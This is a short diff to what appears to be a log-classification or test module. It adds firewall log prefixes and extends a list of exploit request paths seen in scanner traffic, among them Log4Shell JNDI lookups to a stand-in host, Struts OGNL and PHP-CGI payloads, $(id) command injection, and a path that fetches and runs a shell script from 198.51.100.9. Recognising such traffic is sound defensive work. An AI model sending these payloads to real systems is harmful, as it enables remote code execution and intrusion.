@@ -167,8 +167,9 @@ _FW_DROP = ("SuSE-FW-DROP-DEFAULT ", "SuSE-FW-DROP ", "[UFW BLOCK] ", "DROP:", "
             # ConfigServer Firewall's invalid packets and port floods.
             "Firewall: *INVALID* ", "Firewall: *Port Flood* ")
 #: Exploits of the 2020s: Log4Shell (plain, obfuscated, encoded),
-#: Spring4Shell, PHP-CGI, PHPUnit, Struts' OGNL, ThinkPHP, GPON, a router's
-#: command injection.
+#: Spring4Shell, PHP-CGI (and its soft hyphen), PHPUnit, Struts' OGNL,
+#: ThinkPHP, GPON, a router's command injection, F5's iControl REST,
+#: Laravel Ignition, TP-Link's LuCI locale, Exchange's ProxyShell.
 _EXPLOITS = (
     "/?x=${jndi:ldap://198.51.100.9:1389/a}", "/?x=%24%7Bjndi%3Adns%3A%2F%2Fx.oast.fun%2Fa%7D",
     "/?q=${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://198.51.100.9/x}",
@@ -178,6 +179,10 @@ _EXPLOITS = (
     "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/",
     "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
     "/GponForm/diag_Form?images/", "/shell?cd+/tmp;wget+http://198.51.100.9/x.sh;sh+x.sh",
+    "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
+    "/mgmt/tm/util/bash", "/_ignition/execute-solution",
+    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
+    "/autodiscover/autodiscover.json?@zdi/PowerShell?serialization=Key",
 )
 _FW_REJECT = ("FINAL_REJECT: ", "SuSE-FW-REJECT ", "Shorewall:net2fw:REJECT:", "REJECT ",
               "[UFW REJECT] ")
